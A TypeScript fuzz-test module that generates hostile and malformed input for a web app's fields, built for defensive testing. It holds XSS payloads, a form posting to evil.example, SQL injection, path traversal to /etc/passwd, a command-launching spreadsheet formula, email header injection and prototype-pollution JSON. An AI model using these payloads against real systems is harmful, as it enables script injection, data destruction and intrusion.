import * as fc from 'fast-check'
import { anyCharacter } from '#tests/harness/any-text.ts'

/** Whatever gets to run in a page sets this on its window. */
export const RAN = 'hostileRan'
const run = `window.${RAN}=1`

const scripts = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `</title></textarea></style></script><svg onload=${run}>`,
  `"><svg/onload=${run}>`,
  `' onmouseover='${run}' autofocus onfocus='${run}`,
  `javascript:${run}`,
  ` java\tscript:${run}`,
  `data:text/html,<script>top.${run}</script>`,
  `[run](javascript:${run}) ![x](x"onerror="${run}) <https://evil.example>`,
  `//evil.example/x`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${run}>`,
  `\${${run}}{{constructor.constructor('${run}')()}}<%= ${run} %>`,
  `</script><!--<script>${run}`,
]

/** As pasted from other programs. */
const markup = [
  `<html xmlns:o="urn:schemas-microsoft-com:office:office"><body><!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]--><p class=MsoNormal style='mso-margin-top-alt:auto'><b style='mso-bidi-font-weight:normal'>Dragon<o:p></o:p></b></p><![if !supportLists]>·<![endif]>`,
  `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-7f2b"><p dir="ltr" style="line-height:1.38;"><span style="font-size:11pt;white-space:pre-wrap;">Dragon</span></p><br /></b>`,
  `<div dir="ltr">Hello,<br clear="all"><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Ada wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">`,
  `<div><a name="top"></div><span><a href="https://evil.example/">x</a> and more</span>`,
  `<div class=WordSection1><table border=0 width="9999"><tr><td nowrap>${'wide'.repeat(200)}</td></tr></table>`,
  `<blockquote type="cite" class="AppleMailSignature"><base href="//evil.example/"><form action=//evil.example><input name=p>`,
  `Begin forwarded message:\r\n\r\n> From: "Ada" <ada@example.com>\r\n> Subject: =?UTF-8?Q?Drag=C3=B6n?=\r\nBcc: everyone@evil.example`,
]

const letters = [
  'a\0b',
  '\ud800',
  'a\udc00b \ud83d',
  '\udc00\ud800',
  '\u202egnp.exe\u202c \u2066bidi\u2069 \u061c\u200f مرحبا بكم',
  'zero\u200b\u200c\u200d\u2060\ufeffwidth',
  '\u200b',
  '\u00a0\u3000',
  '\uffff\ufffe\ufdd0',
  '\u0007\u001b[31m\u007f\u0085\u2028\u2029',
  'line one\r\nline two\rline three\n\n\n\tend',
  `e${'\u0301'.repeat(400)}`,
  '👩🏽‍🎨🏴󠁧󠁢󠁥󠁮󠁧󠁿🇺🇳️‍⃝',
  'ÉéßİıﬃΑάǅ',
  '﷽𒐫꧅⸻',
]

const technical = [
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '..\\..\\con.txt',
  '%00%2e%2e%2f',
  '%',
  '_%\\',
  `'; drop table pages; --`,
  `" or ""="`,
  '=cmd|calc!A1',
  'null',
  'undefined',
  '{"a":[',
  '-0',
  '1e999',
  '123456789012345678901234567890',
  '0000-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '2999-12-31T23:59:59.999999999Z',
  'ada@example.com\r\nBcc: all@evil.example',
  '{"level":60,"msg":"forged"}\n',
]

/** One word without a place to break, longer than any field. */
const LONG = 100_000
const long = [
  'W'.repeat(LONG),
  'ﷺ'.repeat(LONG),
  '👩‍👩‍👧‍👦'.repeat(LONG / 11),
  `https://example.com/${'a'.repeat(LONG)}`,
  '<b>'.repeat(LONG / 3),
  '['.repeat(LONG),
  '> '.repeat(LONG / 2),
]

/** Values of every wrong type. Markers stand for JSON that JavaScript can't write (`WRITTEN`). */
const values: unknown[] = [
  null,
  true,
  0,
  -1,
  0.5,
  2 ** 31,
  2 ** 53,
  1e308,
  [],
  {},
  [null],
  [[[]]],
  { length: 1 },
  { toString: 'no', valueOf: null },
  { $ne: 1 },
  ['a', { b: [1] }],
]

/** JSON for which the text `"@written"` is replaced. */
export const WRITTEN = '@written'
export const written = [
  '1e999',
  '-0',
  '123456789012345678901234567890',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{"a":1,"a":2}',
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  '"\\ud800"',
  '"\\u0000"',
]

const groups = [scripts, scripts, markup, letters, letters, technical, long]

/** Texts that a field may hold; the long ones are as long as it allows, or longer. */
export function createTexts(random: () => number, seed: number) {
  const anything = fc.sample(fc.string({ unit: anyCharacter, maxLength: 60 }), { seed, numRuns: 200 })
  const of = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!

  /** Fits the field, except that halves of characters and U+0000 are always refused. */
  function text(maxLength = 5_000): string {
    const group = of([...groups, anything])
    const whole = of(group)
    return (group === long ? whole : random() < 0.2 ? whole + of(scripts) : whole).slice(0, maxLength)
  }
  return {
    text,
    /** Anything at all: too long, or of another type. */
    value: (): unknown => (random() < 0.3 ? of(long) : of(values)),
    written: () => of(written),
    /** A whole piece of markup, as a description or a post may be. */
    markup: (pieces: number) =>
      Array.from({ length: pieces }, () => of(random() < 0.5 ? scripts : markup)).join(' word '),
    of,
  }
}

export type Texts = ReturnType<typeof createTexts>
